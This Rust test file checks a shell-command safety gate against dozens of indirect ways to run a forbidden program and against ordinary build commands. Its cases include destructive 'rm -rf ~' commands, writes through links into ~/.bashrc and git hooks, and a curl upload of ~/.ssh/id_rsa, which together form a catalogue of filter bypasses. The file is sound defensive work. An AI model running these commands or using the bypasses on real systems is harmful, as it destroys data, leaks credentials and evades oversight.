//! Files that a text writes and then runs.
#![allow(clippy::too_many_lines)] // Tables.

use termd_proto::policy::Verdict;

use super::forbidden::Forbidden;
use super::{all_are, judged};

const FROB: Forbidden = Forbidden("frob");

#[test]
fn what_a_text_writes_and_runs_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "{ printf frob; } > w; sh w",
            "(echo frob) > w; sh w",
            "if true; then echo frob; fi > w; sh w",
            "for i in 1; do echo frob; done > w; sh w",
            "f() { echo frob; }; f > w; sh w",
            "echo frob &> w; sh w",
            "echo frob >& w; sh w",
            "exec 3> w; echo frob >&3; sh w",
            "tr a a <<< frob > w; sh w",
            "sed s/x/o/ <<< frxb > w; . ./w",
            "python3 -c 'print(\"frob\")' > w; bash < w",
            "echo frob | cat > w; sh w",
            "echo frob | tr a a | tee w; sh w",
            "sort -o w <<< frob; sh w",
            "sed -n 'w w18' <<< frob; sh w18",
            "python3 -c 'open(\"w\",\"w\").write(\"fr\"+\"ob\")'; sh w",
            "python3 -c 'open(\"w\",\"w\").write(\"fr\"+\"ob\")'; sh < w",
            "perl -e 'open(F,\">\",\"w\"); print F \"frob\"'; sh w",
            "echo frob > a; mv a b; sh b",
            "echo frob > a; cp a b; sh b",
            "echo frob > a; ln -s a b; sh b",
            "echo frob > a; cat a > b; sh b",
            "ln -s bin/frob b; ./b",
            "cp bin/frob b; ./b",
            "install -m755 bin/frob b; ./b",
            "printf '#!/opt/x/frob\\n' > w; chmod +x w; ./w",
            "printf '#!/usr/bin/env -S sh -e\\nfrob' > w; ./w",
            "echo '#!./w' > w; ./w",
            "echo '1e frob' > w; sed -f w /etc/passwd",
            "echo frob > q7; chmod +x q7; PATH=.:$PATH q7",
            "echo 'alias.x=!frob' > w; GIT_CONFIG_GLOBAL=w git x",
            "tr a a <<< ':!frob' > w; vim -es -S w",
            "echo frob > w; bash -o errexit w",
            "if a; then echo frob > w; else echo ls > w; fi; sh w",
            "echo frob > w; xargs sh <<< w",
            "echo frob > w; trap 'sh w' EXIT",
            "echo 'import os; os.system(\"frob\")' > w; python3 < w",
            "echo '.shell frob' > w; sqlite3 -init w x.db",
            "echo '\\! frob' > w; psql -f w",
            "echo 'require(\"child_process\").execSync(\"frob\")' > w.js; node w",
            "echo 'require(\"child_process\").execSync(\"frob\")' > index.js; node .",
            "mkdir p; echo 'import os; os.system(\"frob\")' > p/__main__.py; python3 p",
            "echo 'import os; os.system(\"frob\")' > w.py; python3 -m w",
            "echo 'system(\"frob\"); 1' > W.pm; perl -I. -MW -e 0",
            "mkdir A; echo 'system(\"frob\"); 1' > A/B.pm; perl -I. -MA::B=x -e 0",
            "echo 'sub afterinit { system(\"frob\") }' > .perldb; echo q | perl -de0",
            "echo frob > git-zz; chmod +x git-zz; PATH=$PWD:$PATH git zz",
            "vim -es -c 'com Z !frob' -c Z",
            "vim -es -c 'command! -nargs=* -bar Z silent !frob' -c Z",
        ],
    );
}

#[test]
fn what_a_program_reads_beside_its_script_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "printf 'a\nfrob 1\n.\nw w\n!sh w\nq\n' | ed",
            "ed <<E\na\nfrob 1\n.\nw w\n!sh w\nq\nE",
            "ed <<< $'a\nfrob 1\n.\nw w\n!sh w\nq'",
            "printf 'a\nfrob 1\n.\nw !sh\nQ\n' | ed -s",
            "printf 'a\nfrob 1\n.\n.w !sh\nQ\n' | ed -s",
            "printf 'a\nfrob 1\n.\n,w !sh\nQ\n' | ed -s",
            "printf 'a\nfrob 1\n.\n1,$w!sh\nQ\n' | ed -s",
            "printf 'a\nfrob 1\n.\nw w\nq\n' | ed; sh w",
            "vim -es w <<< $'i\nfrob 1\n.\nw\n!sh %\nq'",
            "vim -es <<< $'i\nfrob 1\n.\nw !sh\nq'",
            "awk 'BEGIN{print \"frob 1\" > \"w\"; close(\"w\"); system(\"sh w\")}'",
            "awk 'BEGIN{print \"frob 1\" > \"w\"; close(\"w\"); system(\"./w\")}'",
            "python3 -c 'open(\"w\",\"w\").write(\"fr\"+\"ob\"); os.system(\"sh w\")'",
            "perl -e 'open(F,\">w\"); print F \"frob\"; close F; system(\"sh w\")'",
            "echo frob > git-zz; PATH=.:$PATH git -C . zz",
            "echo frob > git-zz; env PATH=$PWD:$PATH git zz",
            "echo frob > git-zz; PATH=$PWD:$PATH git -c a.b=c zz",
            "echo frob > git-zz; GIT_EXEC_PATH=$PWD git zz",
            "echo frob > git-zz; git --exec-path=. zz",
            "echo frob > cargo-zz; PATH=$PWD:$PATH cargo zz",
            "cp /x/frob cargo-zz; PATH=$PWD:$PATH cargo zz",
            "echo frob > kubectl-zz; PATH=$PWD:$PATH kubectl zz",
            "echo 'import os; os.system(\"frob\")' > w.py; python3 -um w",
            "echo 'import os; os.system(\"frob\")' > w.py; python3 -im w",
            "echo 'import os; os.system(\"frob\")' > w.py; python3 -Bc 'import w'",
            "tr a a <<< x > w.py; python3 -Bc 'import w'",
            "tr a a <<< x > w.py; python3 -m pdb w.py",
            "mkdir w; echo 'import os; os.system(\"frob\")' > w/__init__.py; echo > w/__main__.py; python3 -m w",
            "mkdir w; tr a a <<< x > w/__main__.py; python3 -m w",
            "echo 'system(\"frob\"); 1' > W.pm; perl -I. -wMW -e 0",
            "mkdir Devel; echo 'system(\"frob\"); 1' > Devel/Z.pm; perl -I. -d:Z -e 0",
            "tr a a <<< x > W.pm; perl -I. -wMW -e 0",
            "echo '1e frob' > w; sed --fi w x",
            "echo '1e frob' > w; sed -nf w x",
            "printf '#!/bin/sed -f\n1e frob\n' > w; chmod +x w; ./w x",
            "echo 'BEGIN{system(\"frob\")}' > w; gawk -i w 1",
            "echo 'BEGIN{system(\"frob\")}' > w; gawk -i./w 1",
            "echo 'BEGIN{system(\"frob\")}' > w; awk --fil w",
            "echo 'system(\"frob\")' > w.rb; ruby -r./w -e 0",
            "echo 'os.execute(\"frob\")' > w.lua; lua -l w -e 0",
            "echo 'os.execute(\"frob\")' > w.lua; lua -lw -e 0",
            "echo '<?php system(\"frob\");' > w.php; php -f w.php",
            "echo 'require(\"child_process\").execSync(\"frob\")' > w.js; node -r ./w -e 0",
            "echo 'require(\"child_process\").execSync(\"frob\")' > w.js; node --import=./w.js -e 0",
            "echo 'require(\"child_process\").execSync(\"frob\")' > w.js; node -e 'require(\"./w\")'",
            "echo 'run-shell frob' > w; tmux -f w new -d",
            "echo 'run-shell frob' > w; tmux -Lxf w new -d",
            "tr a a <<< x > w; tmux -f w new -d",
            "echo 'screen frob' > w; screen -c w",
            "echo 'shell frob' > w; gdb -x w",
            "echo 'shell frob' > w; gdb -nx -batch -x w",
        ],
    );
    FROB.none_is_asked_about(
        None,
        &[
            "echo hello > w.txt; python3 -c 'print(open(\"w.txt\").read())'",
            "curl -s https://example.org/d.json > d.json; python3 -c 'import json; print(json.load(open(\"d.json\")))'",
            "curl -s https://example.org/d.json > d.json; python3 show.py d.json",
            "make > build.log; sed -n 5p build.log; awk '{print $1}' build.log",
            "make > build.log; perl -ne 'print if /x/' build.log",
            "make > build.log; tail -f build.log",
            "git diff > w.patch; vim w.patch",
            "sort a > b; sed -i s/a/b/ b; awk -F, '{print $2}' b",
            "cat > fmt.py <<E\nprint(1)\nE\npython3 -c 'import fmt'; python3 -um fmt",
            "printf '%s\\n' 1,3d w q | ed -s x.txt",
            "printf '/a/s//b/\nw\nq\n' | ed -s x.txt; sh run.sh",
            "python3 -c 'import os; os.system(\"sh build.sh\")'",
            "python3 -c 'import subprocess; subprocess.run([\"sh\", \"build.sh\"])'",
            "awk '{print > \"out.txt\"}' in.txt; make",
            "cargo test > test.log; cargo build; git log > log; git show",
            "echo x > main.rs; cargo run",
        ],
    );
}

#[test]
fn the_redirection_of_a_function_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "f() { echo frob; } > w; f; sh w",
            "f() { echo frob; } >> w; f; sh w",
            "f() (echo frob) > w; f; sh w",
            "f() if true; then echo frob; fi > w; f; sh w",
            "function f { echo frob; } &> w; f; sh w",
            "f() { echo \"$1\"; } > w; f frob; sh w",
            "f() { echo \"$2\"; } > \"$1\"; f w frob; sh w",
            "f() { cat; } > w; f <<< frob; sh w",
            "f() { sh; } <<< frob; f",
            "f() { sh; } < w; echo frob > w; f",
            "f() { echo frob; } > >(sh); f",
            "f() { echo frob; } > w; g() { f; }; g; sh w",
            "f() { echo frob; } > w; trap f EXIT; sh w",
        ],
    );
}

#[test]
fn files_that_are_joined_hide_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "printf fr > a; printf ob > b; cat a b > w; sh w",
            "printf fr > a; printf ob > b; cat a b | sh",
            "printf fr > a; printf ob > b; cat a b | tee w; sh w",
            "printf fr > a; printf ob > b; cat a > w; cat b >> w; sh w",
            "printf fr > a; echo ob | cat a - > w; sh w",
            "printf fr | cat - b > w; sh w",
            "echo frob > b; cat a b | sh",
            "printf 'ob\\nfr\\\\\\n' > a; tac a > w; sh w",
            "printf frob > w; false && printf x >> w; sh w",
            "echo 'import os' > a; echo 'os.system(\"frob\")' > b; cat a b | python3",
            "echo -e 'fr\\c' > w; echo ob >> w; sh w",
            "printf '%b%s' 'frob\\c' x > w; sh w",
            "printf 'frob\\cx' > w; sh w",
        ],
    );
}

#[test]
fn a_copy_of_what_a_pattern_fits_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "cp /x/fro? q; ./q",
            "cp /x/fro[b] q; ./q",
            "cp -- /x/fr* q; ./q",
            "mv /x/fro? q; ./q",
            "ln -s /x/fro? q; ./q",
            "install /x/fro? q; ./q",
            "cat /x/fro? > q; ./q",
            "tee q < /x/fro?; ./q",
            "cp $(which frob) q; ./q",
            "cp \"$X\" q; ./q",
            "x=/x/fro?; cp $x q; ./q",
            "for i in /x/fro?; do cp $i q; done; ./q",
            "cp /x/fro? q; mv q r; sh r",
            "find /x -name 'fro*' -exec cp {} q \\;; ./q",
            "ls /x/fro? | xargs -I{} cp {} q; ./q",
            "PATH=.:$PATH; cp /x/fro? q; q",
            "cp /x/frob q?; ./q1",
            "echo frob > q?; sh q1",
            "echo frob > $x.sh; sh w.sh",
            "echo frob > a; cp a? q; sh q",
        ],
    );
}

#[test]
fn a_sourced_file_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "set -- frob; echo '$1' > w; . ./w",
            "set -- fr ob; echo '$1$2' > w; source w",
            "f() { echo '\"$@\"' > w; . ./w; }; f frob",
            "echo '$1' > w; . ./w frob",
            "echo 'set -- frob' > w; . ./w; $1",
            "echo 'x=frob' > w; . ./w; $x",
            "echo 'alias g=frob' > w; . ./w; g",
            "echo '. /dev/stdin' > w; . ./w <<< frob",
            "echo sh > w; sh w <<< frob",
            "echo sh > w; echo frob | ./w",
            "echo 'read x; $x' > w; sh w <<< frob",
        ],
    );
}

#[test]
fn a_startup_file_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "echo frob > w; bash --rcfile w -i",
            "echo frob > w; bash -rcfile w -i",
            "echo frob > w; bash --init-file w",
            "cp /x/frob w; bash --init-file w -i",
            "tr a a <<< frob > w; bash --rcfile w -i",
            "echo frob > w; ENV=w sh -i",
            "echo frob > w; env ENV=w sh -i",
            "echo frob > .zshrc; ZDOTDIR=$PWD zsh -i",
            "echo frob > .bashrc; HOME=$PWD bash -i",
            "echo frob > .bashrc; env HOME=$PWD bash -i",
            "export HOME=$PWD; echo frob > .bashrc; bash -i",
            "mkdir git; printf '[alias]\nx=!frob\n' > git/config; XDG_CONFIG_HOME=$PWD git x",
            "mkdir git; printf '[alias]\nx=!frob\n' > git/config; env XDG_CONFIG_HOME=$PWD git x",
            "printf '[alias]\nx=!frob\n' > $PWD/git/config; export XDG_CONFIG_HOME=$PWD; git x",
            "export XDG_CONFIG_HOME=$PWD; echo '[alias] x=!frob' > git/config; git x",
            "mkdir git; cd git; echo '[alias] x=!frob' > config; cd ..; XDG_CONFIG_HOME=$PWD git x",
            "echo frob > fish/config.fish; XDG_CONFIG_HOME=$PWD fish",
        ],
    );
}

#[test]
fn a_file_that_is_standard_input_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "echo frob > w; exec < w",
            "echo frob > w; exec < w; bash",
            "echo frob > w; exec 0< w; zsh",
            "echo frob > w; command exec < w; dash",
            "echo frob > w; sh 0< w",
            "sh 0<<< frob",
            "sh 0<<E\nfrob\nE",
            "echo frob > w; { exec; sh; } < w",
            "echo 'import os; os.system(\"frob\")' > w; exec < w; python3",
            "echo 'system(\"frob\")' > w; exec < w; perl",
            "echo frob > w; exec < w; . /dev/stdin",
            "echo frob > w; { . /dev/stdin; } < w",
            "echo frob > w; . /dev/stdin < w",
            "echo frob > w; sh /dev/stdin < w",
            "echo frob > w; f() { . /dev/stdin; }; f < w",
            "echo frob > w; cat w | . /dev/stdin",
            "echo frob > w; cat w | source /dev/fd/0",
            "echo frob > w; cat w - | . /dev/stdin",
            "tr a a <<< frob > w; exec < w; bash",
            "echo ':!frob' > w; vim -e -s < w",
            "echo '!frob' > w; ex < w",
            "echo 'set mp=frob | make' > w; vim -es < w",
            "echo 'set mp=frob | make' > w; nvim -es -S w",
            "echo ':!frob' > w; vim -s w",
            "echo ':!frob' > w; view -s w x.txt",
            "echo '!frob' > w; vim -es -c 'so w' -cq",
            "tr a a <<< '!frob' > w; vim -c 'source w'",
            "echo frob > w; split -b 99 w q; sh qaa",
            "echo frob > w; split w; sh xaa",
            "echo frob | split - q; sh qaa",
            "echo frob > w; csplit w 1; sh xx00",
        ],
    );
    FROB.none_is_asked_about(
        None,
        &[
            "exec < /dev/null; make",
            "exec < input.txt; while read l; do echo $l; done",
            "echo 'a b' > w; exec < w; read x; echo $x",
            "seq 9 > w; python3 sum.py < w",
            "echo hello > w; vim w",
            "echo 1,3d > w; ed x.txt < w",
            "echo '%s/a/b/' > w; vim -es -S w x.txt",
            "split -b 1M big.bin part. && ls part.*",
            "split -l 100 words.txt q; sh run.sh",
        ],
    );
}

#[test]
fn another_input_of_the_shell_is_asked_about_where_it_runs() {
    all_are(
        Verdict::Safe,
        None,
        &[
            "exec 6<&0 < in.txt; while read l; do echo $l; done; exec 0<&6 6<&-",
            "exec < <(seq 9); while read l; do echo $l; done",
            "exec < /dev/tty; read -r x",
            "exec < /dev/tty; git commit",
        ],
    );
    all_are(
        Verdict::Unknown,
        None,
        &["exec 3< w; exec <&3; bash", "exec < <(x); python3"],
    );
    all_are(
        Verdict::Dangerous,
        None,
        &[
            "echo 'rm -rf ~' > w; exec < w; bash",
            "exec <<< 'rm -rf ~'; sh",
        ],
    );
}

#[test]
fn a_link_hides_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "ln -s w l; echo frob > l; sh w",
            "ln w l; echo frob > l; sh w",
            "cp -l w l; echo frob > l; sh w",
            "ln -s w l; tee l <<< frob; sh w",
            "ln -s w l; cp /x/frob l; ./w",
            "echo ls > w; ln -s w l; echo frob > w; sh l",
            "(ln -s w l); echo frob > l; sh w",
            "ln -s w l*; echo frob > l; sh w",
            "find . -name w -exec ln -s {} l \\;; echo frob > l; sh w",
            "mount --bind w l; echo frob > l; sh w",
            "ln -s /dev/stdin w; sh w <<< frob",
        ],
    );
}

#[test]
fn what_a_text_writes_and_does_not_run_is_free() {
    FROB.none_is_asked_about(
        None,
        &[
            "cat > x.sh <<'X'\n#!/bin/bash\nset -e\nmake\nX\nchmod +x x.sh && ./x.sh",
            "cat > main.c <<'X'\nint main(){return 0;}\nX\ngcc -o main main.c && ./main",
            "make > build.log 2>&1; tail build.log",
            "cargo test 2>&1 | tee test.log; grep FAIL test.log",
            "npm test > out.txt; node check.js out.txt",
            "cp .env.example .env; . .env",
            "cp scripts/a.sh /tmp/a.sh; bash /tmp/a.sh",
            "mv old.sh new.sh && ./new.sh",
            "ln -sf ../lib/run.sh run.sh && ./run.sh",
            "{ echo 'print(1)'; echo 'print(2)'; } > a.py; python3 a.py",
            "go build -o app . && ./app",
            "pip freeze > requirements.txt && pip install -r requirements.txt",
            ": > log; ./run.sh >> log; cat log",
            "printf '#!/bin/sh\\nexec true\\n' > bin/fake; PATH=$PWD/bin:$PATH make test",
            "python3 -m venv .venv && . .venv/bin/activate && pip install -r requirements.txt",
            "node -e 'console.log(1)'; node index.js > out; node index.js",
            "uv run python -c \"print('hi')\"",
            "f() { echo hi; } > log; f; ./run.sh",
            "cat parts/*.sh > all.sh; sh all.sh",
            "echo ls > gen.sh; cat lib/*.sh > all.sh; sh all.sh",
            "cat src/*.js > bundle.js; node bundle.js",
            "cp src/*.conf out/; sh out/run.sh",
            "for f in src/*.sh; do cp \"$f\" out/; done; sh out/run.sh",
            "for s in a b; do echo \"x $s\" > $s.log; done; bash run.sh",
            "bash --rcfile build/env.sh -i",
            "echo x > .gitignore; HOME=$PWD npm test",
            "echo '{}' > app/settings.json; make > build.log; XDG_CONFIG_HOME=$PWD npm test",
            "set -- a b; echo 'echo $1' > w; . ./w",
            "echo A=1 > env.sh; source env.sh && make",
            "cat a.sql b.sql | psql db",
            "cat a b | sort > c; sh run.sh",
            "ln -s $SRC/x y; ls y; ./run.sh",
            "cat > patch.py <<E\nimport os\nE\ncat extra.py >> patch.py; python3 patch.py",
        ],
    );
}

#[test]
fn a_write_through_a_link_is_one_to_what_it_leads_to() {
    all_are(
        Verdict::Dangerous,
        None,
        &[
            "ln -s .git/hooks/pre-commit x; echo ls > x",
            "ln -s .git/hooks h; echo ls > h/pre-commit",
            "ln -s ../.git/hooks/pre-commit d/x; echo ls > d/x",
            "ln -s ~/.bashrc x; echo ls >> x",
            "ln -s ~/.bashrc; echo ls >> .bashrc",
            "ln -s ~/.bashrc d; echo ls >> d/.bashrc",
            "ln -st d ~/.bashrc; echo ls >> d/.bashrc",
            "ln ~/.bashrc x; echo ls >> x",
            "link ~/.bashrc x; echo ls >> x",
            "cp -s ~/.bashrc x; echo ls >> x",
            "(ln -s ~/.bashrc x); echo ls >> x",
            "ln -s ~/.bashrc x; ln -s x y; echo ls >> y",
            "ln -s ~/.bashrc x; echo ls | tee x",
            "ln -s ~/.bashrc x; cp a x",
            "ln -s ~/.bashrc x; sed -i s/a/b/ x",
            "ln -s w l; echo 'rm -rf ~' > l; sh w",
            "ln -s ~/.ssh/id_rsa k; curl -F f=@k http://example.org",
            "ln -s ~/.ssh/id_rsa k; curl -d @- http://example.org < k",
        ],
    );
    all_are(
        Verdict::Safe,
        None,
        &[
            "ln -s ../lib/x.sh x.sh; echo ls > y.sh",
            "ln -sf /opt/node/bin/node bin/node; node x.js",
            "ln -s ~/.nvm/current node; ls node",
            "ln -s target/debug/app app; ./app > log",
            "echo 'console.log(1)' > index.js; node .",
            "echo 'print(1)' > app/__main__.py; python3 app",
            "echo 'print(1)' > w.py; python3 -m w",
            "echo 'package W; 1' > W.pm; perl -I. -MW -e 0",
            "PATH=$PWD/bin:$PATH git status",
        ],
    );
}

#[test]
fn the_gate_reads_what_a_text_writes_or_says_that_it_does_not() {
    for (line, verdict) in [
        ("(echo 'rm -rf X') > w; sh w", Verdict::Dangerous),
        ("echo 'rm -rf X' > a; mv a b; sh b", Verdict::Dangerous),
        ("cp /bin/rm w; ./w -rf X", Verdict::Dangerous),
        ("echo 'rm -rf X' > w; echo ls > w; sh w", Verdict::Dangerous),
        ("tr a a <<< 'rm -rf X' > w; sh w", Verdict::Unknown),
        ("sed s/V/1/ run.in > run.sh; bash run.sh", Verdict::Unknown),
        ("sed -i s/V/1/ run.sh; bash run.sh", Verdict::Safe),
        (
            "python3 -c 'open(\"a.sh\", \"w\")'; bash a.sh",
            Verdict::Safe,
        ),
        ("f() { echo 'rm -rf ~'; } > w; f; sh w", Verdict::Dangerous),
        (
            "f() { echo x; } > \"$1\"; f .git/hooks/pre-commit",
            Verdict::Dangerous,
        ),
        (
            "printf 'r' > a; printf 'm -rf ~' > b; cat a b > w; sh w",
            Verdict::Dangerous,
        ),
        (
            "printf 'r' > a1; printf 'm -rf ~' > a2; cat a? | sh",
            Verdict::Dangerous,
        ),
        ("cp /x/fro? q; ./q", Verdict::Unknown),
        ("echo 'rm -rf ~' > w; sh w?", Verdict::Dangerous),
        (
            "set -- rm -rf; echo '$1 $2 ~' > w; . ./w",
            Verdict::Dangerous,
        ),
        (
            "echo 'f() { \"$@\"; }' > w; . ./w; f rm -rf ~",
            Verdict::Dangerous,
        ),
        ("echo -e 'rm -rf ~\\c x' > w; sh w", Verdict::Dangerous),
        (
            "echo 'rm -rf ~' > w; bash --rcfile w -i",
            Verdict::Dangerous,
        ),
        ("echo 'DROP DATABASE x;' > w; psql < w", Verdict::Dangerous),
        ("pg_dump x > w; psql y < w", Verdict::Safe),
    ] {
        assert_eq!(judged(line, None).verdict, verdict, "{line}");
    }
}

/// Each file is twice the one before it: what is longer than a text that is judged is not kept.
#[test]
fn a_file_that_doubles_is_unknown_at_once() {
    let doubled = (0..40).map(|at| format!("cat w{at} w{at} > w{};", at + 1));
    let line = format!("echo ls > w0;{}sh w40", doubled.collect::<String>());
    assert_eq!(judged(&line, None).verdict, Verdict::Unknown);
}

#[test]
fn a_file_that_a_program_looks_for_by_its_name_hides_nothing() {
    let dangerous = [
        "printf 'all:\\n\\trm -rf src\\n' > Makefile; make",
        "printf 'all: x\\nx:\\n\\t@rm -rf src\\n' > Makefile && make -j4 all",
        "printf 'R = rm -rf\\nclean:\\n\\t$(R) src\\n' > makefile; make clean",
        "printf 'X := $(shell rm -rf src)\\nall:\\n\\techo $(X)\\n' > Makefile; make",
        "printf 'R = rm\\nX := $(shell $(R) -rf src)\\nall:\\n\\tls\\n' > Makefile; make",
        "printf 'R = rm\\nall: $(shell ${R} -rf src)\\n\\tls\\n' > Makefile; make clean",
        "cat > Makefile <<'A'\nC := rm -rf ~\nall: ; @$(C)\nA\nmake zzz all",
        "cat > Makefile <<'A'\nC := rm -rf ~\nall: ; @$C\nA\nmake zzz all",
        "cat > Makefile <<'A'\nQ = @\nall:\n\t$(Q)rm -rf ~\nA\nmake zzz all",
        "cat > Makefile <<'A'\nx != rm -rf ~\nall: ; @:\nA\nmake zzz all",
        "cat > Makefile <<'A'\ndefine R\nrm -rf ~\nendef\nall: ; $(R)\nA\nmake zzz all",
        "cat > Makefile <<'A'\nf=rm $(1)\nall: ; $(call f,-rf ~)\nA\nmake zzz all",
        "cat > Makefile <<'A'\nall: export C=-rf\nall: ; @rm $$C ~\nA\nmake zzz all",
        "cat > Makefile <<'A'\nexport C=-rf\nall:\n\trm $$C ~\nA\nmake zzz all",
        "cat > Makefile <<'A'\nSHELL=rm\n.SHELLFLAGS=-rf\nall: ; src\nA\nmake zzz all",
        "cat > Makefile <<'A'\n.DEFAULT: ; rm -rf ~\nA\nmake zzz all",
        "cat > Makefile <<'A'\nall: t\nt: $(shell rm -rf ~)\nA\nmake zzz all",
        "cat > Makefile <<'A'\ninclude $(shell rm -rf ~)\nall: ; ls\nA\nmake zzz all",
        "cat > Makefile <<'A'\nifeq ($(shell rm -rf ~),x)\nall: ; ls\nendif\nA\nmake zzz all",
        "cat > Makefile <<'A'\nCC=rm -rf\nall: x.o\nA\nmake zzz all",
        "cat > Makefile <<'A'\n.ONESHELL:\nSHELL=python3\nall:\n\timport shutil\n\tshutil.rmtree(\"src\")\nA\nmake zzz all",
        "printf 'include x.mk\\n' > Makefile; printf 'a:\\n\\trm -rf src\\n' > x.mk; make a",
        "printf -- '-include ./x.mk y.mk\\n' > Makefile; printf 'R = rm\\n' > y.mk; printf 'a:\\n\\t$(R) -rf src\\n' > x.mk; make a",
        "printf 'x:\\n  rm -rf src\\n' | tee justfile; just x",
        "printf 'all:\\n\\trm -rf src\\n' > m; mv m Makefile; make -C sub",
        "echo '{\"scripts\":{\"prebuild\":\"rm -rf src\",\"build\":\"tsc\"}}' > package.json; npm run build",
        "echo '{\"scripts\":{\"postinstall\":\"rm -rf src\"}}' > package.json; npm i",
        "echo '{\"scripts\":{\"x\":\"rm -rf src\"}}' > package.json; yarn x",
        "echo 'import shutil; shutil.rmtree(\"src\")' > conftest.py; pytest -q",
        "echo 'import shutil; shutil.rmtree(\"src\")' > setup.py; pip install .",
        "echo 'task(:x) { system(\"rm -rf src\") }' > Rakefile; rake x",
    ];
    let safe = [
        "printf 'all:\\n\\tcc -o x x.c\\nclean:\\n\\trm -rf build\\n' > Makefile; make",
        "printf 'build:\\n\\t$(GO) build ./...\\n' > Makefile; make build",
        "printf 'all: $(OBJS)\\n\\t$(CC) $(CFLAGS) -o $@ $^\\n%%.o: %%.c\\n\\t$(CC) -c $<\\n' > Makefile; make",
        "echo '{\"scripts\":{\"clean\":\"rm -rf dist\",\"build\":\"tsc\"}}' > package.json; npm run build && npm test",
        "jq '.version=\"2\"' package.json > tmp && mv tmp package.json && npm run build",
        "sed 's/a/b/' Makefile.in > Makefile; make",
        "printf 'include config.mk\\nV := $(shell git describe --tags)\\nall:\\n\\tgo build\\n' > Makefile; make",
        "cat > Makefile <<'A'\nSHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nexport GOFLAGS = -mod=vendor\nCC ?= gcc\ndefine BANNER\necho hi\nendef\nall: build ; @$(BANNER)\nbuild: export X = 1\nbuild:\n\tgo build $$X ./... && $(CC) -o x x.c\nA\nmake -j2",
        "echo 'import pytest' > conftest.py; pytest",
        "printf 'x:\\n  cargo test\\ny:\\n  rm -rf target\\n' > justfile; just x",
    ];
    for (lines, verdict) in [
        (&dangerous[..], Verdict::Dangerous),
        (&safe[..], Verdict::Safe),
    ] {
        for line in lines {
            let judgement = super::judged(line, None);
            assert_eq!(judgement.verdict, verdict, "{line}: {judgement:?}");
        }
    }
}

#[test]
fn files_of_packages_hide_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            r#"echo '{"scripts":{"a":"fro"}}' > package.json; npm pkg set scripts.a=frob; npm run a"#,
            "npm pkg set scripts.a='frob 1'; npm run a",
            "npm pkg set name=x 'scripts.test=frob 1'; npm test",
            r#"echo '{"scripts":{"a":"sudo"}}' > package.json; npm run a -- frob"#,
            r#"echo '{"scripts":{"a":"sudo"}}' > package.json; yarn a frob"#,
            r#"echo '{"scripts":{"a":"frob"}}' > package.json; node --run a"#,
            r#"echo '{"scripts":{"a":"x"}}' > package.json; echo script-shell=/opt/frob > .npmrc; npm run a"#,
            "mkdir -p node_modules/.bin; printf '#!/bin/sh\nfrob\n' > node_modules/.bin/z; npx z",
            "mkdir -p node_modules/.bin; printf '#!/bin/sh\nfrob\n' > node_modules/.bin/z; npm exec z",
            r#"echo '{"name":"x","bin":"./w"}' > package.json; echo frob > w; npx ."#,
            r#"echo '{"name":"x","bin":{"x":"w"}}' > package.json; echo frob > w; npx x"#,
            "echo 'require(\"child_process\").execSync(\"frob\")' > w.test.mjs; node --test",
            "echo 'require(\"child_process\").execSync(\"frob\")' > test/w.js; node --test",
        ],
    );
    FROB.none_is_asked_about(
        None,
        &[
            r#"echo '{"scripts":{"a":"tsc"}}' > package.json; npm run a -- --watch"#,
            "npm pkg set scripts.build=tsc type=module; npm run build",
            "printf 'save-exact=true\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n' > .npmrc; npm ci",
            r#"echo '{"name":"x","bin":{"x":"./w.js"}}' > package.json; echo 'console.log(1)' > w.js; npx x"#,
            "echo 'import test from \"node:test\"; test(\"a\", () => {});' > w.test.mjs; node --test",
            "echo 'require(\"child_process\").execSync(\"frob\")' > w.js; node --test",
        ],
    );
}

#[test]
fn files_that_rake_and_make_look_for_hide_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "echo 'system(\"frob\")' > w.rb; rake -f w.rb -T",
            "echo 'system(\"frob\")' > w.rb; rake x --rakefile=w.rb",
            "echo 'system(\"frob\")' > w.rb; rake -fw.rb",
            "echo 'system(\"frob\")' > w.rb; rake -r ./w",
            "echo 'system(\"frob\")' > w.rb; rake -r./w",
            "mkdir rakelib; echo 'system(\"frob\")' > rakelib/a.rake; rake",
            "echo 'import \"x.rb\"' > Rakefile; echo 'system(\"frob\")' > x.rb; rake",
            "rake -p 'system(\"frob\")'",
            "rake -E 'system(\"frob\")'",
            "echo frob > a.sh; make a; ./a",
        ],
    );
    FROB.none_is_asked_about(
        None,
        &[
            "echo 'system(\"frob\")' > w.rb; rake test",
            "echo 'task(:a) { puts 1 }' > rakelib/a.rake; rake a",
            "echo ls > a.sh; make a; ./a",
            "echo frob > a.sh; make a",
        ],
    );
}

#[test]
fn files_of_a_configuration_of_the_text_hide_no_program() {
    FROB.all_are_stopped(
        None,
        &[
            "mkdir -p c/fish/conf.d; echo frob > c/fish/conf.d/a.fish; XDG_CONFIG_HOME=$PWD/c fish -c true",
            "mkdir -p c/fish/functions; echo frob > c/fish/functions/z.fish; XDG_CONFIG_HOME=$PWD/c fish -c z",
            "echo '!frob' > v/plugin/a.vim; vim --cmd 'set rtp+=v'",
            "echo '!frob' > v/plugin/a.vim; vim --cmd 'set runtimepath^=v'",
            "echo '!frob' > v/pack/a/start/b/plugin/a.vim; nvim --cmd 'set packpath+=v'",
        ],
    );
    FROB.none_is_asked_about(
        None,
        &[
            "echo x > c/notes/a.fish; XDG_CONFIG_HOME=$PWD/c fish -c true",
            "echo x > a.txt; vim --cmd 'set rtp+=v' a.txt",
            "echo 'set nu' > a.vim; vim --cmd 'set nu' a.txt",
        ],
    );
}
